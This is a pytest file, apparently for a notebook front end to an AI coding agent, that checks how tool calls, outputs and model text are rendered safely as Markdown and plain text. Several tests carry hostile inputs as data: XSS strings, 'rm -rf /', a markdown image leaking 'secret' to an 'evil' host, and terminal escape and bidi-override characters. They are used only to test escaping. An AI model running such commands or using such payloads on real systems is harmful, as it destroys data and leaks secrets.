"""What a run leaves: Markdown and text from events, bounded in what is sent while it goes on."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from kernels import LiveKernel

import pi_nb
from pi_nb import ScriptedModel, call, reply, thinking
from pi_nb.loop.events import MessageStart, MessageUpdate, ToolEnd, ToolStart, ToolUpdate
from pi_nb.loop.types import answer
from pi_nb.messages import AssistantMessage
from pi_nb.models.types import TextDelta, ThinkingDelta
from pi_nb.notebook.display import SHOWN, Record, title


def _said(text: str, index: int = 0) -> MessageUpdate:
    return MessageUpdate.of(TextDelta(index=index, delta=text), AssistantMessage)


def _begun(name: str = "bash", **arguments: object) -> ToolStart:
    return ToolStart(tool_call_id="c1", tool_name=name, arguments=arguments)


def _ended(text: str, *, is_error: bool = False, details: object = None) -> ToolEnd:
    result = answer(text, is_error=is_error, details=details)
    return ToolEnd(tool_call_id="c1", tool_name="bash", result=result, is_error=is_error)


def _record(*events: object) -> Record:
    record = Record()
    for event in events:
        record.add(event)  # type: ignore[arg-type]
    return record


def test_text_of_two_messages_stands_in_two_paragraphs() -> None:
    start = MessageStart(message=AssistantMessage())

    record = _record(start, _said("Hel"), _said("lo."), start, _said("Bye."))

    assert record.markdown() == "Hello.\n\nBye."
    assert record.plain() == "Hello.\n\nBye."


def test_a_call_is_folded_and_its_output_fenced_so_that_it_cannot_get_out() -> None:
    hostile = "</details>\n```\n<script>alert(1)</script>\x1b[2J"

    record = _record(_begun(command="cat x"), _ended(hostile))

    assert record.markdown() == (
        "<details><summary><code>✓ bash: cat x</code></summary>\n\n"
        "````\n</details>\n```\n<script>alert(1)</script>\n````\n\n</details>"
    )
    assert "\x1b" not in record.markdown()
    assert "\x1b" not in record.plain()


def test_a_hostile_command_is_text_in_the_head() -> None:
    record = _record(_begun(command="<img src=x onerror=alert(1)>\nrm -rf /"), _ended("ok"))

    assert "<img" not in record.markdown()
    assert "\n" not in title("bash", {"command": "a\nb\x1b[31m"})


def test_a_call_that_runs_shows_how_far_it_is() -> None:
    record = _record(
        _begun(command="make"),
        ToolUpdate(tool_call_id="c1", tool_name="bash", partial=answer("half")),
    )

    assert "… bash: make" in record.plain()
    assert "half" in record.plain()


def test_an_edit_shows_its_difference_and_a_failed_one_its_reason() -> None:
    diff = "@@ -1 +1 @@\n-a\n+b"

    good = _record(_begun("edit", path="x"), _ended("Changed x.", details={"diff": diff}))
    bad = _record(_begun("edit", path="x"), _ended("No.", is_error=True, details={"diff": diff}))

    assert "```diff\n@@ -1 +1 @@\n-a\n+b" in good.markdown()
    assert "No." in bad.markdown()
    assert "✗ edit: x" in bad.plain()


def test_a_long_output_keeps_its_end_and_says_how_much_is_missing() -> None:
    record = _record(_begun(command="seq"), _ended("x" * SHOWN + "the end"))

    assert "7 characters before this" in record.markdown()
    assert "the end" in record.plain()


def test_thinking_is_folded_and_short_in_text() -> None:
    piece = MessageUpdate.of(ThinkingDelta(index=0, delta="<b>hmm</b>"), AssistantMessage)

    record = _record(piece, _said("So.", 1))

    assert record.markdown().startswith("<details><summary><code>thinking</code></summary>")
    assert record.plain() == "(thinking) <b>hmm</b>\n\nSo."


def test_a_run_in_a_plain_script_streams_to_the_terminal(tmp_path: Path) -> None:
    script = (
        "import pi_nb\n"
        "from pi_nb import ScriptedModel, call, reply\n"
        "model = ScriptedModel([reply('I look.', call('bash', command='echo seen')), 'Done.'])\n"
        "with pi_nb.agent(model=model, approve='allow') as agent:\n"
        "    agent.prompt_sync('go', show=True)\n"
    )

    done = subprocess.run(
        [sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=30
    )

    assert done.stderr == ""
    said = ["I look.", "▸ bash: echo seen", "  seen", "Done."]
    places = [done.stdout.index(word) for word in said]
    assert places == sorted(places)


def test_the_result_of_a_prompt_shows_as_markdown_without_streaming(tmp_path: Path) -> None:
    model = ScriptedModel([reply(thinking("x"), "**yes**", call("bash", command="true")), "Fine."])

    with pi_nb.agent(cwd=tmp_path, model=model, approve="allow") as agent:
        result = agent.prompt_sync("go")

    assert repr(result) == "TurnResult('Fine.')"
    assert result._repr_markdown_() == "Fine."


HOSTILE = "see ![p](http://evil/?q=secret) or [docs](javascript:alert(1)) <img src=x onerror=y>"


def test_what_a_result_shows_is_text() -> None:
    """Z-02: a value of a cell is trusted output."""
    with pi_nb.agent(model=ScriptedModel([reply(HOSTILE), reply(error=HOSTILE)])) as agent:
        good, bad = agent.prompt_sync("a"), agent.prompt_sync("b")

    for shown in (good._repr_markdown_(), bad._repr_markdown_()):
        assert "<img" not in shown
        assert "](javascript" not in shown
        assert "![p](http" not in shown.replace("\\![p](http", "")


def test_a_command_is_shown_as_it_runs_and_not_as_a_terminal_would_draw_it() -> None:
    """A carriage return, a backspace, an escape, an override: each is spelled out."""
    for command in ("touch x #\rls", "touch x #\b\bls", "a; \x1b]0;x", "a\u202eb", "a\u200bb"):
        shown = title("bash", {"command": command})
        assert "touch x" in shown or "a" in shown
        assert not set("\r\b\x1b\u202e\u200b") & set(shown)
        assert "\\" in shown


@pytest.mark.slow
def test_what_a_server_says_is_no_markdown_in_the_cell(kernel: LiveKernel) -> None:
    kernel.good(
        f"model = ScriptedModel([reply('x', stop_reason='length')], id={HOSTILE!r})\n"
        "agent = pi_nb.agent(model=model)"
    )

    cell = kernel.good("%%agent\ngo")

    assert "![p](" not in cell.markdown
    assert "](javascript" not in cell.markdown
    assert "<img" not in cell.markdown


@pytest.mark.slow
def test_many_calls_do_not_send_the_record_again_for_each(kernel: LiveKernel) -> None:
    kernel.good(
        "calls = [call('bash', command='seq 2000') for _ in range(150)]\n"
        # A window that holds all of it: nothing has to be compacted on the way.
        "model = ScriptedModel([reply('x', *calls), 'Done.'], context_window=2_000_000)\n"
        "agent = pi_nb.agent(approve='allow', model=model)\n"
        "sent = []\n"
        "publish = get_ipython().display_pub.publish\n"
        "def counted(data, *a, **k):\n"
        "    sent.append(len(data.get('text/markdown', '')))\n"
        "    return publish(data, *a, **k)\n"
        "get_ipython().display_pub.publish = counted"
    )
    try:
        cell = kernel.run("%%agent\ngo", seconds=90)
    finally:
        kernel.good("get_ipython().display_pub.publish = publish")

    assert cell.ok
    size = len(cell.markdown)
    assert int(kernel.good("print(sum(sent))").stdout) < 20 * size


@pytest.mark.slow
def test_what_is_sent_while_streaming_stays_within_twenty_times_the_answer(
    kernel: LiveKernel,
) -> None:
    """J-09, DESIGN 7: updates when the text has grown by a twentieth, at most ten a second."""
    words = 4_000
    kernel.good(
        f"agent = pi_nb.agent(model=ScriptedModel(['word ' * {words}], pace=0.0005))\n"
        "sent = []\n"
        "from pi_nb.notebook.display import LiveCell\n"
        "publish = get_ipython().display_pub.publish\n"
        "def counted(data, *a, **k):\n"
        "    sent.append(len(data.get('text/markdown', '')))\n"
        "    return publish(data, *a, **k)\n"
        "get_ipython().display_pub.publish = counted"
    )
    try:
        cell = kernel.good("%%agent\ngo")
    finally:
        kernel.good("get_ipython().display_pub.publish = publish")

    assert cell.markdown.count("word") == words
    updates, size = map(int, kernel.good("print(len(sent), sum(sent))").stdout.split())
    assert size < 22 * 5 * words
    assert updates <= 3 + cell.seconds * 10
